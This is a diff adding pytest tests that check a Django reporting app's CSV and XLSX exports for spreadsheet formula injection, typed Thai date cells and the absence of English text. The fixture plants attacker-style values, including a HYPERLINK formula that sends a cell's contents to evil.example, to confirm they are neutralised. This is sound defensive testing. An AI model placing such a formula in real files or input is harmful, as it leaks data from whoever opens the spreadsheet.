@@ -4,7 +4,9 @@ indicators as columns, the figures of the known world of test_monitoring, and wh
 from __future__ import annotations
 
 import csv
+import datetime
 import io
+import re
 from urllib.parse import unquote
 
 import pytest
@@ -220,3 +222,101 @@ def test_export_refuses_unknown_tables_formats_and_cycles(org, known: Known):
     assert client.get(base.replace("reports.csv", "reports.pdf")).status_code == 404
     assert client.get(reverse("reporting:export", args=[999999, "reports", "csv"])).status_code == 404
     assert client.get(base + "?province=abc").status_code == 404
+
+
+# No formula in a downloaded file (issue 11 item 9): what users typed is text, never a formula; cells are
+# typed; the header is frozen and filtered; a Thai file has no English.
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+EVIL_LABEL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
+EVIL_NAMES = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tcmd", "\r=cmd"]
+
+
+def read_book(response):
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    return load_workbook(io.BytesIO(response.content)).active
+
+
+def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
+    for row in rows:
+        for value in row:
+            assert not value.startswith(FORMULA_STARTS), value
+
+
+def assert_no_formula_in_xlsx(sheet) -> None:
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
+
+
+def assert_readable(sheet, header_row: int) -> None:
+    """The header frozen, a filter over the whole table, every column given a width."""
+    assert sheet.freeze_panes == f"A{header_row + 1}"
+    last = sheet.cell(row=header_row, column=sheet.max_column).column_letter
+    assert sheet.auto_filter.ref == f"A{header_row}:{last}{sheet.max_row}"
+    for column in range(1, sheet.max_column + 1):
+        letter = sheet.cell(row=header_row, column=column).column_letter
+        assert sheet.column_dimensions[letter].width >= 8
+
+
+@pytest.fixture
+def evil(org, known: Known) -> Known:
+    """A cycle label and officers' names as an attacker would type them."""
+    from organisation.models import Officer
+
+    ReportingCycle.objects.filter(pk=known.cycle.pk).update(label=EVIL_LABEL)
+    known.cycle.refresh_from_db()
+    people = [org.officer, org.neighbour, org.director]
+    for person, name in zip(people, EVIL_NAMES, strict=False):
+        Officer.objects.filter(pk=person.officer.pk).update(
+            prefix="", first_name_th=name, last_name_th=EVIL_NAMES[-1]
+        )
+    return known
+
+
+@pytest.mark.parametrize("what", ["reports", "provinces", "analysis", "officers"])
+def test_no_formula_in_any_reporting_export(org, evil: Known, what: str):
+    for user in (org.central, org.director):
+        client = client_for(user)
+        rows = read_csv(client.get(export_url(evil.cycle, what, "csv")))
+        assert_no_formula_in_csv(rows)
+        sheet = read_book(client.get(export_url(evil.cycle, what, "xlsx")))
+        assert_no_formula_in_xlsx(sheet)
+        assert_readable(sheet, header_row=2)
+        title = sheet["A1"]
+        assert title.value.startswith(EVIL_LABEL) and title.data_type == "s" and title.quotePrefix
+    if what in ("reports", "officers"):  # the officers' names, neutralised, as typed after the quote
+        text = "\n".join(",".join(row) for row in rows)
+        assert "'=1+1" in text and "'+SUM(A1)" in text
+
+
+def test_reporting_xlsx_cells_are_typed(org, known: Known):
+    sheet = read_book(client_for(org.central).get(export_url(known.cycle, "reports", "xlsx")))
+    header = [cell.value for cell in sheet[2]]
+    done = next(row for row in sheet.iter_rows(min_row=3) if row[2].value == org.district.code)
+    submitted, deadline = done[header.index("วันที่ส่ง")], done[header.index("กำหนดส่ง")]
+    for cell in (submitted, deadline):
+        assert cell.is_date and isinstance(cell.value, datetime.datetime)
+        assert cell.number_format.startswith("[$-th-TH,107]")  # shown in the Buddhist Era
+    assert submitted.value.isoformat() == "2026-06-08T09:00:00"  # local time, as the pages show it
+    assert deadline.value.isoformat() == "2026-06-26T16:30:00"
+    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in done[10:])
+    percent = read_book(client_for(org.central).get(export_url(known.cycle, "provinces", "xlsx")))
+    assert all(isinstance(row[3].value, int | float) for row in percent.iter_rows(min_row=3))
+
+
+LATIN = re.compile(r"[A-Za-z]")
+
+
+@pytest.mark.parametrize("what", ["reports", "provinces", "analysis", "officers"])
+def test_a_thai_export_has_no_english(org, known: Known, what: str):
+    client = client_for(org.central)
+    for row in read_csv(client.get(export_url(known.cycle, what, "csv"))):
+        assert not any(LATIN.search(value) for value in row), row
+    sheet = read_book(client.get(export_url(known.cycle, what, "xlsx")))
+    for row in sheet.iter_rows(values_only=True):
+        assert not any(isinstance(v, str) and LATIN.search(v) for v in row), row
+    assert "ข้อมูล ณ" in sheet["A1"].value
